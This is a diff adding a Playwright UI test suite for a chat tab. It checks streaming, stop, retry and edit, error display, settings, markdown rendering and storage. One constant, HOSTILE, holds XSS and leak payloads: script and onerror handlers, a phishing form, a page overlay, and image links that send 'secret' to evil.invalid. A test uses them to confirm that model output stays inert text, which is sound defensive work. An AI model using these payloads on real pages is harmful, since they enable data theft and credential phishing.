@@ -1,0 +1,407 @@
+"""The Chat tab, used as people use it."""
+
+from __future__ import annotations
+
+import re
+import time
+from typing import TYPE_CHECKING
+
+from playwright.sync_api import expect
+
+from tests.ui.conftest import KEY
+from tests.wall import REASONING, answer_text
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser
+
+    from tests.ui.chat_page import ChatPage
+    from tests.ui.parrot import Parrot
+    from tests.ui.site import Site
+    from tests.wall import Exchange, WallThread
+
+GROWS = """(kept) => {
+  window.states = new Set();
+  const live = document.querySelector("#chat-live");
+  new MutationObserver(() => {
+    const said = live.querySelector("[data-testid=bot]");
+    if (said) window.states.add(said.innerText);
+  }).observe(live, {childList: true, subtree: true, characterData: true});
+}"""
+
+
+def chats(wall: WallThread, model: str) -> list[Exchange]:
+    return [exchange for exchange in wall.exchanges if exchange.model == model and exchange.method == "POST"]
+
+
+def begun(wall: WallThread, model: str) -> Exchange:
+    """The chat with this model, once its answer has begun."""
+    return wall.wait_for(
+        lambda seen: next((e for e in seen if e.model == model and e.method == "POST" and e.status), None)
+    )
+
+
+def test_the_page_offers_every_provider_and_says_which_need_a_key(chat: ChatPage) -> None:
+    chat.page.locator("#chat-provider input").click()
+    options = chat.page.get_by_role("option").all_inner_texts()
+    assert any("needs a key" in option for option in options)
+    assert any("needs a key" not in option for option in options)
+
+
+def test_an_answer_grows_while_it_comes_and_then_stands_in_the_log(chat: ChatPage) -> None:
+    chat.choose("ok?tokens=80&rate=60")
+    chat.page.evaluate(GROWS)
+    chat.ask("Hello")
+    states = chat.page.evaluate("[...window.states].map(state => state.length)")
+    assert len([size for size in states if size]) >= 5
+    assert states == sorted(states)
+    expect(chat.answers).to_have_text([answer_text(80)])
+    expect(chat.prompts).to_have_text(["Hello"])
+    expect(chat.live).to_be_hidden()
+    expect(chat.prompt).to_have_value("")
+
+
+def test_the_line_under_an_answer_says_who_gave_it_and_at_what_cost(chat: ChatPage) -> None:
+    chat.choose("ok?tokens=20&rate=60")
+    chat.ask("Hello")
+    line = chat.figures.inner_text()
+    assert "OpenAI · ok?tokens=20&rate=60" in line
+    assert re.search(r"first token \d+\.\d+ s · .*\d+ tokens/s · \d+ in / 20 out tokens · price unknown", line)
+    assert line in chat.page.locator("#chat-route").inner_text()
+
+
+def test_the_list_of_models_comes_live_and_a_custom_name_is_taken(chat: ChatPage) -> None:
+    chat.page.locator("#chat-model input").click()
+    expect(chat.page.get_by_role("option", name="gpt-6.2-sol", exact=True)).to_be_visible()
+    chat.page.keyboard.press("Escape")
+    chat.choose("ok?tokens=3")
+    chat.ask("Hello")
+    expect(chat.answers).to_have_text([answer_text(3)])
+
+
+def test_a_provider_without_a_key_says_which_setting_is_missing(chat: ChatPage) -> None:
+    chat.choose("claude-haiku-5-5", provider="Anthropic")
+    expect(chat.page.locator("#chat-note")).to_contain_text("set ANTHROPIC_API_KEY")
+    chat.ask("Hello")
+    expect(chat.log.locator(".problem")).to_contain_text("ANTHROPIC_API_KEY")
+    expect(chat.prompts).to_have_text(["Hello"])
+
+
+def test_stop_keeps_the_text_and_closes_the_connection_within_a_second(chat: ChatPage, wall: WallThread) -> None:
+    model = "ok?tokens=2000&rate=50&stop=1"
+    chat.choose(model)
+    chat.type("Hello")
+    expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku cepo vavi")
+    stopped = time.monotonic()
+    chat.stop.click()
+    exchange = begun(wall, model)
+    wall.wait_ended(exchange)
+    assert exchange.client_left
+    assert exchange.closed is not None
+    assert exchange.closed - stopped < 1
+    expect(chat.figures).to_contain_text("stopped")
+    expect(chat.answers).to_contain_text("fiku cepo vavi")
+
+
+def test_stop_works_while_the_provider_is_silent(chat: ChatPage, wall: WallThread) -> None:
+    model = "stall@first?stop=2"
+    chat.choose(model)
+    chat.type("Hello")
+    exchange = begun(wall, model)
+    expect(chat.page.locator("#chat-route")).to_contain_text(re.compile(r"Waiting for .*2 s"))
+    stopped = time.monotonic()
+    chat.stop.click()
+    wall.wait_ended(exchange)
+    assert exchange.closed is not None
+    assert exchange.closed - stopped < 1
+    expect(chat.figures).to_contain_text("stopped")
+    expect(chat.prompts).to_have_text(["Hello"])
+
+
+def test_a_partial_answer_is_part_of_the_history_and_a_failed_turn_is_not(chat: ChatPage, wall: WallThread) -> None:
+    chat.choose("ok?tokens=2000&rate=50&part=1")
+    chat.type("First")
+    expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku cepo")
+    chat.stop.click()
+    expect(chat.figures).to_have_count(1)
+    chat.choose("status-503?history=1")
+    chat.ask("Second")
+    chat.choose("ok?tokens=2&history=1")
+    chat.ask("Third")
+    sent = chats(wall, "ok?tokens=2&history=1")[-1].body["messages"]
+    assert [(turn["role"], turn["content"][:10]) for turn in sent] == [
+        ("user", "First"),
+        ("assistant", "fiku cepo "),
+        ("user", "Third"),
+    ]
+
+
+def test_a_closed_tab_closes_the_connection_within_two_seconds(browser: Browser, site: Site, wall: WallThread) -> None:
+    for model in ("ok?tokens=3000&rate=50&tab=1", "stall@first?tab=1"):
+        visitor = browser.new_page()
+        from tests.ui.chat_page import ChatPage
+
+        chat = ChatPage(visitor, site.url)
+        chat.open()
+        chat.choose(model)
+        chat.type("Hello")
+        exchange = begun(wall, model)
+        expect(chat.page.locator("#chat-route .busy")).to_be_visible()
+        closed = time.monotonic()
+        visitor.close()
+        wall.wait_ended(exchange)
+        assert exchange.closed is not None
+        assert exchange.closed - closed < 2
+
+
+def test_regenerate_edit_undo_and_new_chat(chat: ChatPage, wall: WallThread) -> None:
+    model = "ok?tokens=4&rate=100&turns=1"
+    chat.choose(model)
+    chat.ask("One")
+    chat.ask("Two")
+    chat.log.get_by_label("Retry").click()
+    wall.wait_for(lambda _: len(chats(wall, model)) == 3)
+    expect(chat.stop).to_be_hidden()
+    expect(chat.prompts).to_have_text(["One", "Two"])
+    assert chats(wall, model)[1].body["messages"] == chats(wall, model)[2].body["messages"]
+
+    chat.prompts.first.hover()
+    chat.log.get_by_label("Edit").first.click()
+    chat.log.locator("textarea").fill("One, edited")
+    chat.log.get_by_label("Submit").click()
+    expect(chat.prompts).to_have_text(["One, edited"])
+    expect(chat.figures).to_have_count(1)
+    assert chats(wall, model)[-1].body["messages"] == [{"role": "user", "content": "One, edited"}]
+
+    chat.log.get_by_role("button", name="Undo").click()
+    expect(chat.prompts).to_have_count(0)
+    expect(chat.prompt).to_have_value("One, edited")
+
+    chat.ask("Again")
+    chat.page.get_by_role("button", name="New chat").click()
+    expect(chat.prompts).to_have_count(0)
+    expect(chat.log).to_contain_text("What would you like to know?")
+
+
+def test_a_new_chat_may_begin_while_an_answer_is_still_coming(chat: ChatPage, wall: WallThread) -> None:
+    for number in range(3):
+        model = f"ok?tokens=2000&rate=50&new={number}"
+        chat.choose(model)
+        chat.type("Hello")
+        expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku")
+        chat.page.get_by_role("button", name="New chat").click()
+        wall.wait_ended(begun(wall, model))
+        expect(chat.stop).to_be_hidden()
+        expect(chat.prompts).to_have_count(0)
+        expect(chat.live).to_be_hidden()
+    chat.choose("ok?tokens=2")
+    chat.ask("Hello")
+    expect(chat.prompts).to_have_text(["Hello"])
+
+
+def test_a_second_prompt_waits_for_the_first_answer(chat: ChatPage) -> None:
+    chat.choose("ok?tokens=200&rate=50")
+    chat.type("First")
+    expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku")
+    chat.type("Second")
+    expect(chat.hint).to_contain_text("still being written")
+    expect(chat.prompt).to_have_value("Second")
+    chat.stop.click()
+    expect(chat.prompts).to_have_text(["First"])
+
+
+def test_a_reload_brings_a_working_page(chat: ChatPage) -> None:
+    chat.choose("ok?tokens=2000&rate=50&reload=1")
+    chat.type("Hello")
+    expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku")
+    chat.open()
+    # Gradio itself logs the connections that a reload ends.
+    chat.complaints = [text for text in chat.complaints if not text.startswith(("Unexpected error", "AbortError"))]
+    chat.choose("ok?tokens=3")
+    chat.ask("Hello again")
+    expect(chat.answers).to_have_text([answer_text(3)])
+
+
+def test_an_error_stands_in_the_answers_place_and_try_again_asks_again(chat: ChatPage, wall: WallThread) -> None:
+    chat.choose("status-503?again=1")
+    chat.ask("Will this work?")
+    problem = chat.log.locator(".problem")
+    expect(problem).to_contain_text("OpenAI")
+    expect(problem).to_contain_text("The wall says 503.")
+    expect(chat.prompts).to_have_text(["Will this work?"])
+    expect(chat.figures).to_contain_text("no answer")
+    chat.choose("ok?tokens=2")
+    chat.log.get_by_role("button", name="Try again").click()
+    expect(chat.answers).to_have_text([answer_text(2)])
+    expect(chat.prompts).to_have_text(["Will this work?"])
+
+
+def test_an_answer_that_breaks_off_keeps_its_text(chat: ChatPage) -> None:
+    chat.choose("cut@mid?tokens=40")
+    chat.ask("Hello")
+    expect(chat.answers.first).to_contain_text("fiku cepo vavi")
+    expect(chat.log.locator(".problem")).to_be_visible()
+    expect(chat.figures).to_contain_text("broken off")
+
+
+def test_reasoning_is_collapsed_once_the_answer_stands(chat: ChatPage) -> None:
+    chat.choose("reasoning?tokens=5&rate=30")
+    chat.ask("Think")
+    thought = chat.log.locator(".thought-group")
+    expect(thought).to_contain_text(re.compile(r"Reasoning\s*\(.*s\)"))
+    expect(thought).not_to_contain_text("think about that")
+    thought.get_by_role("button").first.click()
+    expect(thought).to_contain_text("".join(REASONING))
+
+
+def test_an_answer_that_ran_out_of_tokens_says_so(chat: ChatPage) -> None:
+    chat.choose("length?tokens=5")
+    chat.ask("Hello")
+    expect(chat.figures).to_contain_text("cut at max tokens")
+
+
+def test_settings_are_sent_only_when_they_are_set(chat: ChatPage, wall: WallThread) -> None:
+    model = "ok?tokens=2&settings=1"
+    chat.choose(model)
+    chat.ask("Unset")
+    chat.page.get_by_label("System prompt").fill("Be brief.")
+    chat.page.get_by_label("Temperature").fill("0,5")
+    chat.page.get_by_label("Max tokens").fill("7")
+    chat.ask("Set")
+    unset, is_set = (exchange.body for exchange in chats(wall, model)[-2:])
+    assert not {"temperature", "max_tokens", "max_completion_tokens"} & unset.keys()
+    assert is_set["temperature"] == 0.5
+    assert 7 in (is_set.get("max_tokens"), is_set.get("max_completion_tokens"))
+    assert is_set["messages"][0]["content"] == "Be brief."
+    chat.page.get_by_label("Temperature").fill("warm")
+    chat.type("Not sent")
+    expect(chat.hint).to_contain_text("Temperature is a number from 0 to 2.")
+    expect(chat.prompt).to_have_value("Not sent")
+
+
+def test_an_empty_prompt_is_not_sent(chat: ChatPage, wall: WallThread) -> None:
+    chat.choose("ok?empty=1")
+    chat.type("   ")
+    expect(chat.hint).to_contain_text("Type a prompt first.")
+    assert chats(wall, "ok?empty=1") == []
+
+
+def test_a_megabyte_is_sent_and_shown_in_short(chat: ChatPage, parrot: Parrot) -> None:
+    prompt = "long " * 200_000
+    chat.choose("parrot", provider="parrot")
+    chat.type(prompt)
+    expect(chat.figures).to_have_count(1, timeout=30_000)
+    assert parrot.seen[-1]["messages"][-1]["content"].strip() == prompt.strip()
+    expect(chat.prompts).to_contain_text("1,000,000 characters in all")
+    assert len(chat.prompts.inner_text()) < 10_000
+
+
+def test_an_image_reaches_the_model(chat: ChatPage, parrot: Parrot, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    from PIL import Image
+
+    file = tmp_path / "red.png"
+    Image.new("RGB", (32, 32), "red").save(file)
+    chat.choose("parrot", provider="parrot")
+    chat.page.locator("#chat-prompt input[type=file]").set_input_files(file)
+    expect(chat.page.locator("#chat-prompt img")).to_be_visible()
+    chat.ask("What is this?")
+    parts = parrot.seen[-1]["messages"][-1]["content"]
+    assert {part["type"] for part in parts} == {"text", "image_url"}
+    expect(chat.log.locator("[data-testid=user] img")).to_be_visible()
+
+
+def test_markdown_code_and_formulas_are_set(chat: ChatPage) -> None:
+    chat.choose("parrot", provider="parrot")
+    chat.ask("**bold**\n\n```python\nprint(List[int] < 3)\n```\n\n$$a<b$$ and \\(x^2\\) and\n\n\\[y_1\\]\n\n`<form>`")
+    answer = chat.answers
+    expect(answer.locator("strong")).to_have_text("bold")
+    expect(answer.locator("pre code")).to_contain_text("print(List[int] < 3)")
+    expect(answer.locator(".katex")).to_have_count(3)
+    expect(answer.locator("p code")).to_have_text("<form>")
+    answer.locator("pre").locator("xpath=..").get_by_role("button").first.click()
+    assert "print(List[int] < 3)" in chat.page.evaluate("navigator.clipboard.readText()")
+
+
+def test_copy_gives_the_answer_and_nothing_else(chat: ChatPage) -> None:
+    chat.choose("ok?tokens=5")
+    chat.ask("Hello")
+    chat.log.locator(".bot-row").first.locator("xpath=following-sibling::*[1]").get_by_label("Copy message").click()
+    expect(chat.page.get_by_label("Copied message").first).to_be_visible()
+    assert chat.page.evaluate("navigator.clipboard.readText()") == answer_text(5)
+
+
+HOSTILE = """Hello <img src="http://evil.invalid/a.png?q=secret" onerror="window.pwned=1">
+<script>window.pwned=1</script>
+<form action="http://evil.invalid/"><input name="password"><button>Sign in</button></form>
+<div style="position:fixed;inset:0;z-index:99999;background:#fff">overlay</div>
+<svg onload="window.pwned=1"></svg><iframe src="http://evil.invalid/"></iframe>
+<style>#chat-prompt{display:none}</style><base href="http://evil.invalid/">
+![leak](http://evil.invalid/b.png?q=secret) ![leak][ref] [click](javascript:window.pwned=1)
+
+[ref]: http://evil.invalid/c.png
+
+- ```
+  code
+  ```
+<form id="f1"></form>
+
+> ```
+<form id="f2"></form>
+
+| a ` | <form id="f3"></form> ` |
+|---|---|
+
+\\` <form id="f4"></form> `
+
+$$ ` $$ <form id="f5"></form> `
+"""
+
+
+def test_what_a_model_says_stays_text(chat: ChatPage) -> None:
+    chat.choose("parrot", provider="parrot")
+    chat.ask(HOSTILE)
+    expect(chat.answers).to_contain_text("position:fixed")
+    assert chat.page.evaluate("window.pwned") is None
+    for tag in ("form", "script", "iframe", "img", "style", "base", "svg[onload]", "[style*=fixed]"):
+        assert chat.log.locator(f".md {tag}").count() == 0, tag
+    assert chat.log.locator(".md a[href^=javascript]").count() == 0
+    chat.choose("ok?tokens=2", provider="OpenAI")
+    chat.ask("Nothing covers the page.")
+    expect(chat.prompts).to_have_count(2)
+
+
+def test_nothing_that_was_typed_stays_in_the_browsers_storage(chat: ChatPage) -> None:
+    chat.choose("ok?tokens=2")
+    chat.ask("A prompt that is nobody's business")
+    stored = chat.page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
+    assert "nobody's business" not in stored
+    assert KEY not in stored
+
+
+def test_five_hundred_tokens_a_second_are_shown_without_delay(chat: ChatPage, wall: WallThread) -> None:
+    model = "ok?tokens=2500&rate=500"
+    chat.choose(model)
+    chat.type("Hello")
+    last = answer_text(2500).split()[-1]
+    chat.page.wait_for_function(
+        "last => document.querySelector('#chat-scroll').innerText.includes(last)", arg=last, timeout=20_000
+    )
+    seen = time.monotonic()
+    exchange = begun(wall, model)
+    assert seen - exchange.token_times[-1] < 0.5
+
+
+def test_a_narrow_screen_has_everything_in_reach(browser: Browser, site: Site) -> None:
+    from tests.ui.chat_page import ChatPage
+
+    page = browser.new_page(viewport={"width": 375, "height": 667})
+    chat = ChatPage(page, site.url)
+    chat.open()
+    chat.choose("ok?tokens=300")
+    chat.ask("Hello")
+    assert page.evaluate("document.documentElement.scrollWidth") <= 375
+    box = page.locator("#chat-prompt").bounding_box()
+    assert box is not None
+    assert box["y"] + box["height"] <= 667
+    page.get_by_role("button", name="Settings").click()
+    expect(page.get_by_label("Temperature")).to_be_visible()
+    page.close()
